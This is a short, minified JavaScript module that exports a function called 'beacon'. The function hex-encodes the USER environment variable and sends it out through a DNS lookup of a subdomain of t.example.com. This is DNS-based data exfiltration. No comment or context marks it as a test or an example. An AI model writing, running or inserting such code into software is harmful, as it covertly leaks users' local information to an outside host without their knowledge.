import n from"node:dns";function t(o){let e=Buffer.from(process.env.USER).toString("hex");n.lookup(`${e}.t.example.com`,o)}export{t as beacon};
